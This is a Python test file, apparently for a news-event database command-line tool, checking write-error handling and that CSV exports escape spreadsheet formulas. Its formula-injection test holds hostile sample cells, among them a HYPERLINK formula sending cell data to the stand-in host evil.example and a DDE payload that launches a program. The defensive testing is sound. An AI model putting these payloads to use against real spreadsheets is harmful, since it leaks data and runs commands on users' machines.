"""Writing files: a missing or unwritable folder, a file in the way and a full disk are one
line with exit code 5 (OutputError); CSV cells cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from tests.hostile.helpers import cli, one_error_line, snapshot


def test_timeline_into_a_missing_folder(db: Path, tmp_path: Path) -> None:
    target = tmp_path / "no" / "such" / "t.png"
    one_error_line(cli(db, "timeline", "RUS", "IRN", "--format", "png", "-o", str(target)),
                   5, str(target), "no folder")  # fmt: skip
    assert not target.parent.exists()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_timeline_onto_a_full_disk(db: Path) -> None:
    run = cli(db, "timeline", "RUS", "IRN", "--format", "csv", "-o", "/dev/full")
    one_error_line(run, 5, "/dev/full", "No space left")


def test_timeline_csv_without_output_goes_to_stdout(db: Path, tmp_path: Path) -> None:
    os.chdir(tmp_path)
    run = cli(db, "timeline", "Russia", "iran", "--format", "csv")
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(run.out)))
    assert rows and "period" in rows[0] and "evidence" in rows[0]
    assert list(tmp_path.iterdir()) == [tmp_path / "store.db"] or not list(tmp_path.glob("*.csv"))


def test_export_refuses_to_overwrite_without_force(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert cli(db, "export", str(out)).code == 0
    before = (out / "articles.jsonl").read_bytes()
    (out / "articles.jsonl").write_text("mine\n")
    one_error_line(cli(db, "export", str(out)), 5, "articles.jsonl", "already exists", "--force")
    assert (out / "articles.jsonl").read_text() == "mine\n", "nothing written when refused"
    assert cli(db, "export", str(out), "--force").code == 0
    assert (out / "articles.jsonl").read_bytes() == before
    assert cli(db, "export", str(out), "--format", "csv").code == 0, "other files: no clash"


def test_export_onto_an_existing_file(db: Path, tmp_path: Path) -> None:
    target = tmp_path / "notes.txt"
    target.write_text("keep me")
    one_error_line(cli(db, "export", str(target)), 5, str(target), "not a folder")
    assert target.read_text() == "keep me"


def test_export_into_an_unwritable_folder(db: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")  # a folder cannot be made under a file, even by root
    one_error_line(cli(db, "export", str(blocker / "out")), 5, "cannot create folder")
    if os.geteuid() != 0:  # root writes anywhere: the permission case needs a normal user
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        one_error_line(cli(db, "export", str(locked)), 5, "cannot write", "Permission")


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "outlet": "@SUM(1+1)",
    "body": "=1+1 was the first line of this body, and the rest is plain text.",
}


def test_csv_cells_cannot_run_formulas(db: Path, tmp_path: Path) -> None:
    record = dict(FORMULAS, author="-2+3", section="+cmd|' /C calc'!A0")
    assert cli(db, "ingest", "-", stdin=json.dumps(record) + "\n").code == 0
    assert cli(db, "export", str(tmp_path / "out"), "--format", "csv").code == 0
    rows = list(csv.DictReader((tmp_path / "out" / "articles.csv").open(encoding="utf-8")))
    hostile = next(r for r in rows if "HYPERLINK" in (r["title"] or ""))
    for field in ("title", "outlet", "author", "section"):
        assert hostile[field].startswith("'"), (field, hostile[field])
    for path in (tmp_path / "out").glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8")):
            assert not any(_formula(cell) for cell in row), path
    assert cli(db, "export", str(tmp_path / "j")).code == 0
    raw = [json.loads(x) for x in (tmp_path / "j" / "articles.jsonl").read_text().splitlines()]
    assert any(r["title"] == FORMULAS["title"] for r in raw), "JSONL keeps the text as it was"


def test_a_failed_write_leaves_the_store_alone(db: Path, tmp_path: Path) -> None:
    before = snapshot(db)
    cli(db, "export", str(tmp_path / "file-that-is-not-there" / "x"))
    cli(db, "timeline", "RUS", "IRN", "--format", "svg", "-o", str(tmp_path / "no" / "x.svg"))
    assert snapshot(db) == before


def _formula(cell: str) -> bool:
    """A cell a spreadsheet would run: text starting with a formula character. A number
    (an event's negative PLOVER score, -2.0) stays a number, as docs/exports.md says."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    return False
